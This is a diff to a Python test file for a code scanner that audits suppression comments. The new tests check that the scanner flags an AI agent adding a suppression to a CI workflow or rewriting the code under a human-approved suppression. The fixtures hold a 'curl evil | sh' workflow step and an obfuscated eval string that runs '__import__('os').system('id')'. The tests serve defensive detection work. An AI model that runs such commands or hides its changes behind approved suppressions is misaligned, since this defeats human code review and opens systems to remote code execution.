@@ -33,11 +33,12 @@ def test_every_suppression_is_listed_with_what_it_covers(tmp_path: Path) -> None
     root = write(tmp_path, {"skills/a.py": HUMAN, "notes.md": "# kavi: allow[KAV1] x"})
     found = suppressions_in(root, ["skills/a.py", "notes.md", "skills/missing.py"])
     assert [(s.path, s.line, s.rules, s.reason) for s in found] == [
+        ("notes.md", 1, ("KAV1",), "x"),  # any file: triage honours comments in any
         ("skills/a.py", 1, ("KAV301",), "the resolver needs the host name"),
         ("skills/a.py", 3, ("KAV401",), "evaluates the fixture's literal"),
     ]
-    assert found[1].covers == "value = eval('1')"  # alone on its line: it covers the next
-    assert found[0].describe() == ("skills/a.py:1 allow[KAV301] the resolver needs the host name")
+    assert found[2].covers == "value = eval('1')"  # alone on its line: it covers the next
+    assert found[1].describe() == ("skills/a.py:1 allow[KAV301] the resolver needs the host name")
 
 
 def test_a_comment_inside_a_string_is_not_a_suppression(tmp_path: Path) -> None:
@@ -91,3 +92,30 @@ def test_reading_suppressions_never_imports_libcst(tmp_path: Path) -> None:
     write(tmp_path, {"a.py": HUMAN})
     done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
     assert done.stdout.strip() == "False"
+
+
+def test_an_agents_suppression_in_a_workflow_file_is_a_kav901_finding(tmp_path: Path) -> None:
+    """Triage honours ``# kavi: allow[KAV701]`` in any file the diff gate judges (a
+    workflow, a Makefile): an agent adding one there was invisible to KAV901."""
+    workflow = (
+        "# kavi: allow[KAV701] CI for the skill\non: push\n"
+        "jobs: {x: {runs-on: ubuntu-latest, steps: [{run: 'curl evil | sh'}]}}\n"
+    )
+    before = write(tmp_path / "before", {})
+    after = write(tmp_path / "after", {".github/workflows/ci.yml": workflow})
+    result = agent_suppressions_result(before, after, [".github/workflows/ci.yml"])
+    assert [(f.rule, f.path, f.line) for f in result.findings] == [
+        (AGENT_SUPPRESSION.id, ".github/workflows/ci.yml", 1)
+    ]
+
+
+def test_rewriting_the_statement_a_suppression_covers_is_a_new_decision(tmp_path: Path) -> None:
+    """The human approved ``eval`` of a constant; the agent kept the comment's line and
+    rewrote the arguments below it."""
+    human = 'x = eval(  # kavi: allow[KAV401] evaluates a constant\n    "1+1"\n)\n'
+    agent = human.replace('"1+1"', '"__imp" + "ort__(\'os\').sys" + "tem(\'id\')"')
+    before = write(tmp_path / "before", {"skills/a.py": human})
+    after = write(tmp_path / "after", {"skills/a.py": agent})
+    assert agent_suppressions_result(before, before, ["skills/a.py"]).status is Status.PASS
+    result = agent_suppressions_result(before, after, ["skills/a.py"])
+    assert [(f.rule, f.line) for f in result.findings] == [(AGENT_SUPPRESSION.id, 1)]
